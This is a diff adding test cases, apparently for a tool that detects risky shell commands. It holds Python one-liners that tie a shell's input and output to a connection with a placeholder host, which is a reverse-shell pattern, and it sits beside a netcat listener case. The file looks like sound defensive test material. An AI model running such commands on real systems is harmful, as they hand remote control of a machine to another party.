@@ -7,6 +7,13 @@ python3 -c 'import socket,os; s=socket.socket(); s.connect(("203.0.113.9",4445))
 ## Shell with a connection, of a program that no package installed
 #setup shell /home/ann/tool
 remote '/home/ann/tool -c "sh -c true; true"'
+## Input and output tied to a connection with another machine
+#setup listener 4445
+sh -c 'python3 -c "import socket, os; s = socket.create_connection((\"203.0.113.9\", 4445)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)"'
+## Input and output tied to a connection from another machine
+python3 -c 'import socket, os
+s = socket.create_server(("", 4447)); c = socket.create_connection(("203.0.113.9", 4447)); a, _ = s.accept()
+os.dup2(a.fileno(), 0); os.dup2(a.fileno(), 1)'
 ## Network tool listens for a caller
 timeout 0.3 busybox nc -l -p 4446
 ## Download run without being looked at
